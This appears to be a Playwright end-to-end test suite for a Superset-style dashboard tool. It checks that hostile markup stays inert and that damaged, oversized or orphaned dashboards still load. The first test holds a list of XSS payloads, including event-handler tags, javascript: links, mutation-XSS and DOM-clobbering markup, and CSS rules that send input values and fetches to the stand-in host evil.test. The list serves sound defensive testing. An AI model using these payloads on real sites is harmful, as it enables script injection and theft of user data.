import { readFileSync } from 'node:fs'

import { callApi, datasetOf } from './support/api'
import { chart, makeChart, makeDashboard, nativeFilter } from './support/dashboards'
import { expect, signIn, test, watch, type BrowserContext, type Page } from './support/fixtures'

test.use({ apart: 'dashboard-hostile' })

const IMG = '"><img src=x onerror=alert(1)>'
const SVG = '<svg onload=alert(1)>'

const notes = (page: Page) => page.getByRole('region', { name: 'Notifications' })
const frame = (page: Page, name: string) => page.getByRole('article', { name, exact: true })
const drawn = (page: Page, name: string) => expect(frame(page, name)).toHaveAttribute('data-status', 'rendered')
const part = (page: Page, id: string) => page.locator(`[data-component="${id}"]`)

/** Every refusal of the content policy from here on, as the page itself hears of it. */
const watchPolicy = async (page: Page): Promise<string[]> => {
  const violations: string[] = []
  await page.exposeFunction('violated', (what: string) => void violations.push(what))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      ;(globalThis as unknown as { violated: (what: string) => void }).violated(`${violatedDirective} ${blockedURI}`)
    })
  })
  return violations
}

/** No element of the payloads came to life, wherever the page shows them. */
const harmless = async (page: Page): Promise<void> => {
  await expect(page.locator('[onload], [onerror], [style*="evil.test"], base, object, embed')).toHaveCount(0)
  // a text may hold a picture of its own server
  await expect(page.locator('img[src="x"]:not(.db-markdown *)')).toHaveCount(0)
  await expect(page.locator('iframe:not([src^="/"]), meta[http-equiv="refresh" i], link[rel="prefetch"]')).toHaveCount(
    0,
  )
}

/** Texts that other tools ran as code, were led astray by, or called home with. */
const TEXTS: readonly string[] = [
  `<div>${SVG}</div>`,
  '<img src=x onerror=alert(1)>',
  '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#9;script:alert(1)) [d](&#106;avascript:alert(1)) [e](data:text/html,<script>alert(1)</script>) [f](vbscript:alert(1))',
  '<a href="java\tscript:alert(1)">g</a> <a href="&#106;avascript:alert(1)">h</a> <a href=" javascript:alert(1)">i</a>',
  '<a href="//evil.test" target=_blank>away</a> <a href="https://evil.test/x" target=_blank>far</a>',
  '<video src=x onerror=alert(1)></video><video poster=javascript:alert(1)></video><audio src="https://evil.test/a"></audio>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<style>@import "http://evil.test/a.css"; body { display: none }</style><p style="background:url(http://evil.test/b.png)">styled</p>',
  '<iframe src="javascript:alert(1)"></iframe><object data="data:text/html,x"></object><embed src="https://evil.test/e"><form action="https://evil.test/f"><input name=attributes></form><base href="https://evil.test/"><meta http-equiv=refresh content="0;url=https://evil.test/"><link rel=prefetch href="https://evil.test/p">',
  '<a id=config></a><img name=getElementById><form id=x><input name=attributes></form><img name=querySelector><a id=location href="https://evil.test/l"></a>',
  '![x](http://evil.test/picture.png "t") <picture><source srcset="https://evil.test/s.png"><img src="https://evil.test/i.png"></picture><svg><image href="https://evil.test/v.png"/></svg>',
]
const CSS = `</style><script>alert(1)</script> @import 'http://evil.test/a.css'; .db-board { width: expression(alert(1)); background: url(http://evil.test/c.png) } input[value^="a"] { background: url(//evil.test/leak) } @font-face { font-family: x; src: url(http://evil.test/f.woff) }`

test('texts, styles, names and values that are HTML stay text, in every place and under the pointer [S120] [S121] [S122] [S123] [S124] [S125] [S126] [S127] [S128] [S129] [S132] [S133]', async ({
  page,
  server,
  problems,
}) => {
  const violations = await watchPolicy(page)
  const dataset = await callApi<{ id: number }>(page, 'POST', '/api/v1/dataset/', {
    database: 1,
    schema: 'main',
    table_name: `${IMG} data`,
    sql: `SELECT * FROM (VALUES ('${IMG}', 3), ('${SVG}', 5), ('plain', 2)) AS v("${SVG.replaceAll('"', '""')}", n)`,
  })
  const form = { datasource: `${dataset.id}__table` }
  const make = async (name: string, vizType: string, params: object) => {
    const body = {
      slice_name: name,
      viz_type: vizType,
      params: JSON.stringify({ ...form, viz_type: vizType, ...params }),
      datasource_id: dataset.id,
      datasource_type: 'table',
      description: IMG,
    }
    return (await callApi<{ id: number }>(page, 'POST', '/api/v1/chart/', body)).id
  }
  const metric = { expressionType: 'SQL', sqlExpression: 'SUM(n)', label: IMG, optionName: 'm' }
  const bars = await make(`${IMG} bars`, 'echarts_timeseries_bar', { x_axis: SVG, metrics: [metric], groupby: [SVG] })
  const pie = await make(`${SVG} pie`, 'pie', { groupby: [SVG], metric })
  const table = await make(`${SVG} table`, 'table', { query_mode: 'aggregate', groupby: [SVG], metrics: [metric] })
  const number = await make(`${IMG} number`, 'big_number_total', { metric, subheader: SVG })
  const filter = nativeFilter(IMG, dataset.id, { id: 'NATIVE_FILTER-hostile', description: SVG }, SVG)
  const id = await makeDashboard(
    page,
    `${IMG} board`,
    [
      ['ROOT_ID', 'ROOT', ['TABS-top']],
      ['TABS-top', 'TABS', ['TAB-one', 'TAB-two']],
      ['TAB-one', 'TAB', ['HEADER-1', 'ROW-1', 'ROW-2', 'ROW-3'], { text: IMG }],
      ['TAB-two', 'TAB', [], { text: SVG }],
      ['HEADER-1', 'HEADER', [], { text: IMG }],
      ['ROW-1', 'ROW', ['CHART-1', 'CHART-2']],
      ['ROW-2', 'ROW', ['CHART-3', 'CHART-4']],
      ['ROW-3', 'ROW', ['MARKDOWN-1']],
      chart('CHART-1', bars, `${IMG} bars`, 6, 40),
      chart('CHART-2', pie, `${SVG} pie`, 6, 40),
      chart('CHART-3', table, `${SVG} table`, 6, 40),
      chart('CHART-4', number, `${IMG} number`, 6, 40),
      ['MARKDOWN-1', 'MARKDOWN', [], { code: TEXTS.join('\n\n'), width: 12, height: 100 }],
    ],
    { css: CSS, metadata: { native_filter_configuration: [filter], label_colors: { [IMG]: SVG } } },
  )
  await page.goto(`${server.url}/superset/dashboard/${id}/`)
  await expect(page.getByRole('heading', { level: 1, name: `${IMG} board` })).toBeVisible()
  for (const name of [`${IMG} bars`, `${SVG} pie`, `${SVG} table`, `${IMG} number`]) await drawn(page, name)
  expect(await page.title()).toContain(IMG)
  await harmless(page)

  // links lead nowhere they should not, and those that lead away give nothing along
  const text = page.locator('.db-markdown')
  await expect(text.getByText('away')).toBeVisible()
  const links = await text
    .locator('a')
    .evaluateAll((all) =>
      all.map((one) => ({ href: one.getAttribute('href'), rel: one.getAttribute('rel'), id: one.id })),
    )
  expect(links.length).toBeGreaterThan(8)
  for (const { href, rel, id: name } of links) {
    if (href !== null) expect(href).toMatch(/^(https?:)?\/\/|^\//)
    if (href !== null) expect(rel).toContain('noopener')
    expect(name).toBe('')
  }
  const styles = await text.locator('[style]').evaluateAll((all) => all.map((one) => one.getAttribute('style') ?? ''))
  for (const style of styles) expect(style).not.toMatch(/url|position|expression|import|behavior|fixed|z-index/i)
  await expect(text.locator('style, script, form, input, audio, math, svg, [name]')).toHaveCount(0)
  expect(await page.evaluate(() => typeof document.getElementById)).toBe('function')

  // under the pointer: marks, cells, heads, tabs
  for (const name of [`${IMG} bars`, `${SVG} pie`]) {
    const drawing = frame(page, name).getByRole('figure').locator('[tabindex="0"]').first()
    await drawing.hover()
    await drawing.focus()
    await page.keyboard.press('ArrowRight')
    await expect(frame(page, name)).toContainText(/<svg onload|onerror|plain/)
    await harmless(page)
  }
  await frame(page, `${SVG} table`).getByRole('columnheader').first().hover()
  await frame(page, `${SVG} table`).getByText(IMG, { exact: true }).first().hover()
  await page.getByRole('tab', { name: IMG, exact: true }).hover()
  await harmless(page)

  // a filter on a hostile value, a cross-filter on a hostile mark
  const bar = page.getByRole('region', { name: 'Filters' })
  await bar.getByRole('button', { name: `${IMG}: all` }).click()
  await page.getByRole('option', { name: IMG, exact: true }).click()
  await page.keyboard.press('Escape')
  await bar.getByRole('button', { name: 'Apply filters' }).click()
  await expect(frame(page, `${SVG} table`).getByRole('row')).toHaveCount(2)
  await harmless(page)
  await frame(page, `${SVG} pie`)
    .getByRole('button', { name: /^Options for/ })
    .click()
  await page.getByRole('menuitem', { name: 'View query' }).click()
  await expect(page.getByRole('dialog', { name: 'View query' }).locator('pre').first()).toContainText('onerror')
  await page.keyboard.press('Escape')
  await frame(page, `${SVG} table`)
    .getByRole('button', { name: /^Options for/ })
    .click()
  // the menu of the pie may still be fading
  await page
    .getByRole('menu', { name: `Options for ${SVG} table` })
    .getByRole('menuitem', { name: 'Download' })
    .click()
  const download = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Rows as CSV' }).click()
  expect((await download).suggestedFilename()).not.toMatch(/[<>"/\\|?*]/)
  expect(readFileSync(await (await download).path(), 'utf8')).toContain('onerror')
  await page.keyboard.press('Escape')

  // editing shows the same names in tools, steps, dialogs and the history
  await page.getByRole('button', { name: 'Edit dashboard' }).click()
  await expect(page.getByRole('textbox', { name: 'Dashboard title' })).toHaveValue(`${IMG} board`)
  await page.getByRole('button', { name: `Move ${IMG} number` }).hover()
  await page.getByRole('button', { name: 'Edit text' }).click()
  await expect(page.getByRole('textbox', { name: 'Text in Markdown' })).toHaveValue(TEXTS.join('\n\n'))
  await page.getByRole('textbox', { name: 'Text in Markdown' }).fill(`${TEXTS.join('\n\n')}\n\nOne **more**`)
  await harmless(page)
  await page.getByRole('button', { name: 'Done', exact: true }).click()
  await page.getByRole('textbox', { name: 'Dashboard title' }).fill(`${SVG} board`)
  await page.getByRole('textbox', { name: 'Dashboard title' }).press('Enter')
  await page.getByRole('button', { name: 'Save', exact: true }).click()
  await expect(page.getByRole('button', { name: 'Edit dashboard' })).toBeVisible()
  await harmless(page)
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Dashboards' }).click()
  const list = page.getByRole('grid', { name: 'Dashboards' })
  await expect(list.getByRole('link', { name: `${SVG} board` })).toBeVisible()
  await list.getByRole('button', { name: `Delete ${SVG} board` }).click()
  await expect(notes(page).getByText(`Deleted: ${SVG} board`)).toBeVisible()
  await harmless(page)
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'History' }).click()
  await expect(page.getByRole('list', { name: 'Events' })).toContainText(SVG)
  await harmless(page)
  expect(problems.outside).toEqual([])
  // a picture that is not there is noted by the browser itself
  expect(problems.console.filter((one) => !one.startsWith('Failed to load resource'))).toEqual([])
  expect(violations).toEqual([])
})

interface Stored {
  readonly type: string
  readonly children: readonly string[]
  readonly parents?: readonly string[]
  readonly meta: Readonly<Record<string, unknown>>
}

const stored = async (page: Page, id: number): Promise<Readonly<Record<string, Stored>>> => {
  const { result } = await callApi<{ result: { position_json: string } }>(page, 'GET', `/api/v1/dashboard/${id}`)
  return JSON.parse(result.position_json) as Readonly<Record<string, Stored>>
}

test('a layout with circles, strangers and losses opens, says what was repaired, and loses nothing when it is saved', async ({
  page,
  server,
  problems,
}) => {
  const still = await makeChart(page, 'Still there', 'big_number_total', { metric: 'count' })
  const id = await makeDashboard(page, 'Damaged', [
    ['ROOT_ID', 'ROOT', ['TABS-top']],
    ['TABS-top', 'TABS', ['TAB-one']],
    ['TAB-one', 'TAB', ['ROW-1', 'ROW-1', 'NOWHERE', 'ALIEN-1'], { text: 'First' }],
    ['ROW-1', 'ROW', ['CHART-1', 'COLUMN-1']],
    chart('CHART-1', still, 'Still there', 4, 20),
    // two that hold each other, and one that holds itself
    ['COLUMN-1', 'COLUMN', ['ROW-loop'], { width: 4 }],
    ['ROW-loop', 'ROW', ['COLUMN-1', 'ROW-loop', 'MARKDOWN-loop'], {}],
    ['MARKDOWN-loop', 'MARKDOWN', [], { code: 'Held in a circle', width: 4, height: 20 }],
    ['ALIEN-1', 'HOLOGRAM', [], { depth: 3, note: 'from another tool' }],
    ['MARKDOWN-lost', 'MARKDOWN', [], { code: 'A text without a place', width: 4, height: 20 }],
    ['constructor', 'MARKDOWN', [], { code: 'An odd name', width: 4, height: 20 }],
  ])
  const before = await stored(page, id)
  await page.goto(`${server.url}/superset/dashboard/${id}/`)
  await drawn(page, 'Still there')
  await expect(page.getByText('The layout was damaged and has been repaired.')).toContainText(
    'of a kind that is not shown here',
  )
  for (const text of ['Held in a circle', 'A text without a place', 'An odd name'])
    await expect(page.getByText(text)).toBeVisible()
  await page.getByRole('button', { name: 'Edit dashboard' }).click()
  await page.getByRole('textbox', { name: 'Dashboard title' }).fill('Mended')
  await page.getByRole('textbox', { name: 'Dashboard title' }).press('Enter')
  await page.getByRole('button', { name: 'Save', exact: true }).click()
  await expect(page.getByRole('button', { name: 'Edit dashboard' })).toBeVisible()
  const after = await stored(page, id)
  for (const [name, one] of Object.entries(before)) {
    if (name === 'DASHBOARD_VERSION_KEY') continue
    expect(after[name]?.type, name).toBe(one.type)
    expect(after[name]?.meta ?? {}, name).toMatchObject(one.meta ?? {})
  }
  // saved, it is in order
  await page.reload()
  await drawn(page, 'Still there')
  await expect(page.getByText('of a kind that is not shown here')).toBeVisible()
  await expect(page.getByText('The layout was damaged')).toHaveCount(0)
  expect(problems.console).toEqual([])
})

test('5,000 parts and 1 MB of text open; what is too large to be saved is said, and edits of it survive [B3.14]', async ({
  page,
  server,
  problems,
}) => {
  const words = `# Long\n\n${'many words of no use '.repeat(50_000)}`
  expect(words.length).toBeGreaterThan(1_000_000)
  const many = Array.from({ length: 5000 }, (_, at) => at)
  const id = await makeDashboard(page, 'Enormous', [
    ['ROOT_ID', 'ROOT', ['TABS-top']],
    ['TABS-top', 'TABS', ['TAB-long', 'TAB-many']],
    ['TAB-long', 'TAB', ['ROW-1'], { text: 'Long' }],
    ['ROW-1', 'ROW', ['MARKDOWN-long']],
    ['MARKDOWN-long', 'MARKDOWN', [], { code: words, width: 12, height: 40 }],
    ['TAB-many', 'TAB', many.map((at) => `HEADER-${at}`), { text: 'Many' }],
    ...many.map((at) => [`HEADER-${at}`, 'HEADER', [], { text: `Part ${at}` }] as const),
  ])
  await page.goto(`${server.url}/superset/dashboard/${id}/`)
  await expect(page.locator('.db-markdown').getByRole('heading', { name: 'Long' })).toBeVisible()
  await page.getByRole('tab', { name: 'Many' }).click()
  await expect(page.getByRole('heading', { name: 'Part 0', exact: true })).toBeVisible()
  await expect(page.getByText('Part 4999', { exact: true })).toBeAttached()
  await page.getByRole('tab', { name: 'Long' }).click()
  await page.getByRole('button', { name: 'Edit dashboard' }).click()
  await page.getByRole('textbox', { name: 'Dashboard title' }).fill('Too much')
  await page.getByRole('textbox', { name: 'Dashboard title' }).press('Enter')
  await page.getByRole('button', { name: 'Save', exact: true }).click()
  const refusal = 'Your dashboard is too large. Please reduce its size before saving it.'
  await expect(notes(page).getByText(refusal)).toBeVisible()
  await page.reload()
  await expect(page.getByRole('textbox', { name: 'Dashboard title' })).toHaveValue('Too much')
  await page.getByRole('button', { name: 'Undo' }).click()
  await expect(page.getByRole('textbox', { name: 'Dashboard title' })).toHaveValue('Enormous')
  expect(problems.console).toEqual([])
})

test('a chart that someone deletes, a filter without its dataset and a link to a tab that is gone leave the rest as it is', async ({
  page,
  server,
  problems,
}) => {
  const kept = await makeChart(page, 'Kept', 'big_number_total', { metric: 'count' })
  const doomed = await makeChart(page, 'Doomed', 'table', { query_mode: 'raw', all_columns: ['origin'], row_limit: 5 })
  const lost = await callApi<{ id: number }>(page, 'POST', '/api/v1/dataset/', {
    database: 1,
    schema: 'main',
    table_name: 'soon gone',
    sql: 'SELECT 1 AS one',
  })
  const filters = [
    nativeFilter('Without data', lost.id, {}, 'one'),
    nativeFilter('With data', await datasetOf(page, 'flights'), {}, 'origin'),
  ]
  const id = await makeDashboard(
    page,
    'Others were here',
    [
      ['ROOT_ID', 'ROOT', ['TABS-top']],
      ['TABS-top', 'TABS', ['TAB-one', 'TAB-two']],
      ['TAB-one', 'TAB', ['ROW-1'], { text: 'One' }],
      ['TAB-two', 'TAB', ['ROW-2'], { text: 'Two' }],
      ['ROW-1', 'ROW', ['CHART-1', 'CHART-2']],
      ['ROW-2', 'ROW', ['MARKDOWN-1']],
      ['MARKDOWN-1', 'MARKDOWN', [], { code: 'Second page', width: 4, height: 20 }],
      chart('CHART-1', kept, 'Kept', 4, 20),
      chart('CHART-2', doomed, 'Doomed', 8, 20),
    ],
    { metadata: { native_filter_configuration: filters } },
  )
  const path = `/api/v1/dashboard/${id}/permalink`
  const state = { activeTabs: ['TAB-two'], anchor: 'TAB-two', dataMask: {}, urlParams: [] }
  const link = await callApi<{ key: string }>(page, 'POST', path, state)
  await page.goto(`${server.url}/superset/dashboard/${id}/`)
  await drawn(page, 'Doomed')
  await callApi(page, 'DELETE', `/api/v1/chart/${doomed}`)
  await callApi(page, 'DELETE', `/api/v1/dataset/${lost.id}`)
  await frame(page, 'Doomed').getByRole('button', { name: 'Options for Doomed' }).click()
  await page.getByRole('menuitem', { name: 'Refresh' }).click()
  await drawn(page, 'Kept')
  await page.reload()
  await drawn(page, 'Kept')
  await expect(frame(page, 'Doomed').getByRole('heading', { name: 'There is no such chart any more' })).toBeVisible()
  const bar = page.getByRole('region', { name: 'Filters' })
  await bar.getByRole('button', { name: 'With data: all' }).click()
  await page.getByRole('option', { name: 'ATL', exact: true }).click()
  await page.keyboard.press('Escape')
  await bar.getByRole('button', { name: 'Apply filters' }).click()
  await expect(frame(page, 'Kept')).not.toContainText('3M')
  await drawn(page, 'Kept')
  await expect(bar.getByRole('group', { name: 'Without data' })).toBeVisible()

  // the tab goes, the link still leads to the dashboard
  const layout = await stored(page, id)
  const { 'TAB-two': _tab, 'ROW-2': _row, 'MARKDOWN-1': _text, ...rest } = layout
  const tabs = { ...layout['TABS-top'], children: ['TAB-one'] }
  const positions = { ...rest, 'TABS-top': tabs }
  const json_metadata = JSON.stringify({ native_filter_configuration: filters, positions })
  await callApi(page, 'PUT', `/api/v1/dashboard/${id}`, { json_metadata })
  await page.goto(`${server.url}/superset/dashboard/p/${link.key}/`)
  await expect(page.getByRole('tab', { name: 'One', selected: true })).toBeVisible()
  await drawn(page, 'Kept')
  await expect(page.getByText('Second page')).toHaveCount(0)
  expect(problems.outside).toEqual([])
  expect(problems.console.filter((one) => !one.startsWith('Failed to load resource'))).toEqual([])
})

const signOutElsewhere = async (context: BrowserContext, url: string): Promise<void> => {
  const other = await context.browser()?.newContext({ storageState: await context.storageState() })
  if (other === undefined) throw new Error('No browser')
  const page = await other.newPage()
  await page.goto(`${url}/sqllab/`)
  await page.getByRole('button', { name: 'Account' }).click()
  await page.getByRole('menuitem', { name: 'Sign out' }).click()
  await page.getByRole('button', { name: 'Sign in' }).waitFor()
  await other.close()
}

test('a session that ends while a dashboard is edited takes nothing along', async ({ page, context, server }) => {
  const id = await makeDashboard(page, 'Long work', [
    ['GRID_ID', 'GRID', ['HEADER-1']],
    ['HEADER-1', 'HEADER', [], { text: 'Before' }],
  ])
  await page.goto(`${server.url}/superset/dashboard/${id}/?edit=true`)
  const header = page.getByRole('textbox', { name: 'Header text' })
  await header.fill('Done before it ended')
  await header.press('Enter')
  await signOutElsewhere(context, server.url)
  await page
    .getByRole('complementary', { name: 'Layout elements' })
    .getByRole('tab', { name: 'Layout elements' })
    .click()
  await page.getByRole('button', { name: 'Add Text' }).click()
  await page.getByRole('button', { name: 'Edit text' }).click()
  await page.getByRole('textbox', { name: 'Text in Markdown' }).fill('Done **after** it ended')
  await page.getByRole('button', { name: 'Done', exact: true }).click()
  await page.getByRole('button', { name: 'Save', exact: true }).click()
  const message = 'Your session timed out, please refresh your page and try again.'
  await expect(notes(page).getByText(message)).toHaveCount(1)
  await expect(page.getByText('Unsaved', { exact: true })).toBeVisible()
  await page.getByRole('button', { name: 'Sign in again' }).click()
  await page.getByRole('button', { name: 'Sign in' }).waitFor()
  await signIn(page, server.url, `/superset/dashboard/${id}/`)
  await expect(header).toHaveValue('Done before it ended')
  await expect(page.locator('.db-markdown strong')).toHaveText('after')
  await page.getByRole('button', { name: 'Save', exact: true }).click()
  await expect(page.getByRole('button', { name: 'Edit dashboard' })).toBeVisible()
  const layout = await stored(page, id)
  expect(layout['HEADER-1']?.meta['text']).toBe('Done before it ended')
  expect(Object.values(layout).map(({ meta }) => meta?.['code'])).toContain('Done **after** it ended')
})

test('by touch parts are moved and filters are opened', async ({ browser, server }) => {
  const context = await browser.newContext({ hasTouch: true, viewport: { width: 1100, height: 900 } })
  const page = await context.newPage()
  const problems = watch(page, server.url)
  await signIn(page, server.url)
  const first = await makeChart(page, 'First', 'big_number_total', { metric: 'count' })
  const filter = nativeFilter('origin', await datasetOf(page, 'flights'))
  const id = await makeDashboard(
    page,
    'By touch',
    [
      ['GRID_ID', 'GRID', ['ROW-1', 'HEADER-1']],
      ['ROW-1', 'ROW', ['CHART-1']],
      chart('CHART-1', first, 'First', 4, 20),
      ['HEADER-1', 'HEADER', [], { text: 'The end' }],
    ],
    { metadata: { native_filter_configuration: [filter] } },
  )
  await page.goto(`${server.url}/superset/dashboard/${id}/`)
  await drawn(page, 'First')
  const bar = page.getByRole('region', { name: 'Filters' })
  await bar.getByRole('button', { name: 'origin: all' }).tap()
  await page.getByRole('option', { name: 'ATL', exact: true }).tap()
  await page.getByRole('heading', { level: 1 }).tap()
  await bar.getByRole('button', { name: 'Apply filters' }).tap()
  await expect(frame(page, 'First')).not.toContainText('3M')

  await page.getByRole('button', { name: 'Edit dashboard' }).tap()
  // what a tap picks up, taps carry from place to place
  await page.getByRole('button', { name: 'Move The end' }).tap()
  const place = page.getByRole('application', { name: 'Place for The end' })
  await expect(place).toBeVisible()
  await place.getByRole('button', { name: 'Previous place' }).tap()
  await place.getByRole('button', { name: 'Drop here' }).tap()
  await expect(place).toHaveCount(0)
  await expect(page.locator('.db-board .part-grid > .db-stack > div').first()).toHaveClass(/part-header/)
  await expect(part(page, 'HEADER-1')).toBeVisible()
  expect(problems.console).toEqual([])
  await context.close()
})
